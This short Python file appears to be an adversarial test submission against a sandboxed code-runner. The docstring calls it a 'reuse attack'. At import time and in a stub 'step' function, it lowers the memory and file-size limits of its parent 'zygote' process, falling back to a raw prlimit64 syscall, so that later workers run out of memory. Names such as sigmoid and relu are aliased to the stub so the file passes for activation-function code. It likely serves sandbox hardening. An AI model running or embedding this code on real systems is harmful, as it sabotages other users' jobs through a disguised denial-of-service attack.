"""Reuse attack: lower the resource limits of the zygote (our parent); later workers inherit them."""

import ctypes
import os
import resource

CAP_MIB = 1024  # the worker's memory allowance (Limits.memory_bytes)

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


class _Limit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


def _attack():
    zygote = os.getppid()
    # Our own address-space cap is what the zygote had mapped plus the worker's allowance (CAP_MIB): give
    # the zygote a few MiB more than it has, so that it goes on but every later worker runs out of memory.
    own, _ = resource.getrlimit(resource.RLIMIT_AS)
    mapped = own - (CAP_MIB << 20) if own != resource.RLIM_INFINITY else 256 << 20
    for which, value in ((resource.RLIMIT_AS, mapped + (4 << 20)), (resource.RLIMIT_FSIZE, 0)):
        try:
            resource.prlimit(zygote, which, (value, value))
        except (OSError, ValueError):
            pass
        limit = _Limit(value, value)  # the raw system call, in case the library refuses
        _libc.syscall(302, zygote, which, ctypes.byref(limit), None)  # prlimit64 (x86-64)


_attack()


def step(x):
    _attack()
    return None


sigmoid = sigmoid_grad = tanh = tanh_grad = relu = relu_grad = activate = C2F = bipolar_step = step
